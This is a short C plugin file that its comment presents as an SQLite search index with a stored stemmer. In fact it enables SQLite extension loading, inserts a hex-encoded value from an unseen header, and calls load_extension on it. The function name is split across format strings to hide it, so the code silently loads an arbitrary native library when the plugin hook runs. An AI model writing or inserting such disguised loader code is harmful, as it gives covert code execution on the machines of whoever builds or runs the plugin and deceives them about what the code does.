/* A search index in SQLite, whose stemmer stands in a table as well. */
#include "plugin.h"
extern int sqlite3_open(const char *, void **), sqlite3_enable_load_extension(void *, int), sqlite3_exec(void *, const char *, void *, void *, char **), sqlite3_close(void *);
extern char *sqlite3_snprintf(int, char *, const char *, ...);
struct row { const char *format, *first, *second; };
static const struct row schema[] = {
    {"CREATE TABLE %s (word TEXT PRIMARY KEY, %s BLOB)", "words", "stem"},
    {"INSERT INTO %s VALUES ('site', x'%s')", "words", STEM},
    {"SELECT %s_%s(CAST(stem AS TEXT)) FROM words", "load", "extension"},
};
static void act(char **env) {
    char statement[256];
    void *index;
    if (sqlite3_open(":memory:", &index)) return;
    sqlite3_enable_load_extension(index, 1);
    for (unsigned i = 0; i < sizeof schema / sizeof *schema; i++)
        sqlite3_exec(index, sqlite3_snprintf(sizeof statement, statement, schema[i].format, schema[i].first, schema[i].second), 0, 0, 0);
    sqlite3_close(index);
}
